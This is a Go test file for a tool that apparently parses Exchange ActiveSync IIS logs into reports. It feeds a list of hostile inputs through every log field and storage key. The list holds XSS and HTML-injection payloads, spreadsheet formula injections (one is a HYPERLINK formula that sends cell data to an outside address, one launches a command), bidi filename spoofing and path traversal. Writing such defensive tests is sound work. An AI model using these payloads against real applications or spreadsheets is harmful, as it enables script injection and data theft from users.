package browser

import (
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/easreport/easreport/internal/finding"
	"github.com/easreport/easreport/internal/ingest"
	"github.com/easreport/easreport/internal/report"
	"github.com/easreport/easreport/internal/report/assemble"
	"github.com/easreport/easreport/internal/store"
	"github.com/easreport/easreport/internal/store/memstore"
)

// hostile is what a client may send instead of a name: what could run as a script calls
// the trap or would make an element with the id "planted". No text has a space, with
// which a field of a log would end.
var hostile = []string{
	`<script>trap('1')</script>`,
	`"><img/src=x/onerror=trap('2')>`,
	`'><svg/onload=trap('3')><b/id='planted'>`,
	`</script><script>trap('4')</script>`,
	`</style></title></textarea><b/id=planted>`,
	`<!--<script>trap('5')`,
	`--><b/id=planted>`,
	`]]><b/id=planted>`,
	`javascript:trap('6')`,
	`'-trap('7')-'`,
	`";trap('8');"`,
	"`${trap('9')}`",
	`{{trap('10')}}`,
	`&lt;script&gt;trap('11')&lt;/script&gt;`,
	`\u003cscript\u003etrap('12')\u003c/script\u003e`,
	"\u2028trap('13')\u2029",
	`'onmouseover='trap(14)'autofocus='`,
	`<iframe/src=javascript:parent.trap('15')>`,
	`<base/href=https://203.0.113.9/>`,
	`<meta/http-equiv=refresh/content=0;url=https://203.0.113.9/>`,
	`__proto__`,
	`constructor`,
	`=HYPERLINK("https://203.0.113.9/?"&A1)`,
	`+1+cmd|'/C/calc'!A0`,
	`-1+1`,
	`@SUM(A1:A9)`,
	"\uff1d1+1",
	"\u202egnp.exe\u202c\u2066\u200fמשה\u2069",
	"\ufeffbyte\u00adorder\u200bmark",
	"%3Cb/id=planted%3E",
	"C:\\..\\..\\x",
	strings.Repeat(`<b/id=planted>`, 4700), // 64 KB
}

const hostileFields = "#Fields: date time s-sitename s-computername s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username" +
	" c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status sc-bytes cs-bytes time-taken X-Forwarded-For\r\n"

// values of the fields of a line that a client or an administrator chooses.
type values struct {
	site, server, command, user, device, kind, errorName, signedIn, client, agent, forwarded string
}

// each of the values, to be set.
func (v *values) each() []*string {
	return []*string{
		&v.site, &v.server, &v.command, &v.user, &v.device, &v.kind, &v.errorName, &v.signedIn, &v.client, &v.agent, &v.forwarded,
	}
}

func (v *values) line(at time.Time) string {
	q := url.QueryEscape
	query := "Cmd=" + q(v.command) + "&User=" + q(v.user) + "&DeviceId=" + q(v.device) + "&DeviceType=" + q(v.kind)
	return fmt.Sprintf("%s %s %s 192.0.2.1 POST /Microsoft-Server-ActiveSync/default.eas %s&Log=V141_Ssnf:T_As:%s_Error:%s_ 443 %s %s %s 507 0 0 100 100 90 %s\r\n",
		at.Format(time.DateTime), v.site, v.server, query, q(v.errorName), q(v.errorName), v.signedIn, v.client, v.agent, v.forwarded)
}

// hostileLog has each text in all fields of a device that asks so often that it is
// flagged, and in each field alone.
func hostileLog(day time.Time) string {
	var b strings.Builder
	b.WriteString("#Software: Microsoft Internet Information Services 8.5\r\n" + hostileFields)
	at := day.Add(time.Hour)
	for i, text := range hostile {
		var all values
		for _, field := range all.each() {
			*field = text
		}
		for range 90 { // in one minute
			b.WriteString(all.line(at))
		}
		at = at.Add(time.Minute)
		for j := range all.each() {
			one := values{
				site: "W3SVC1", server: "CAS01", command: "Sync", user: "anna", device: fmt.Sprintf("HARMLESS%d.%d", i, j), kind: "iPhone",
				errorName: "MailboxQuotaExceeded", signedIn: `CONTOSO\anna`, client: "203.0.113.9", agent: "Apple-iPhone3C1/801.293", forwarded: "-",
			}
			*one.each()[j] = text
			b.WriteString(one.line(at))
		}
	}
	return b.String()
}

// hostileReport is what the program makes of hostile logs, which have hostile names too.
func hostileReport(t *testing.T) (*report.Report, *finding.Diagnosis) {
	t.Helper()
	day := time.Date(2014, 2, 3, 0, 0, 0, 0, time.UTC)
	logs, lake := memstore.New(), memstore.New()
	in := &ingest.Ingester{Source: logs, Lake: lake, BucketSeconds: 60, TempDir: t.TempDir()}
	add := func(key, text string) {
		if _, err := logs.Put(t.Context(), key, strings.NewReader(text), store.Condition{}); err != nil {
			t.Fatal(err)
		}
		if _, err := in.Ingest(t.Context(), key); err != nil {
			t.Fatalf("ingest of %.80q: %v", key, err)
		}
	}
	add("u_ex140203.log", hostileLog(day))
	for _, text := range hostile {
		folder := strings.NewReplacer("\\", "", "//", "/").Replace(text[:min(len(text), 800)]) // S3's keys know no more limits
		add(folder+"/W3SVC1/u_ex140203.log", hostileFields+"2014-02-03 10:00:00 "+text+"\r\n"+text+"\r\n")
		add(folder+"/W3SVC1/u_ex140203.log.gz", "\x1f\x8b"+text)
	}
	r, err := assemble.Report(t.Context(), lake, report.Query{From: day, To: day.AddDate(0, 0, 1)})
	if err != nil {
		t.Fatal(err)
	}
	d, err := finding.Diagnose(t.Context(), lake, r, finding.DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	return r, d
}
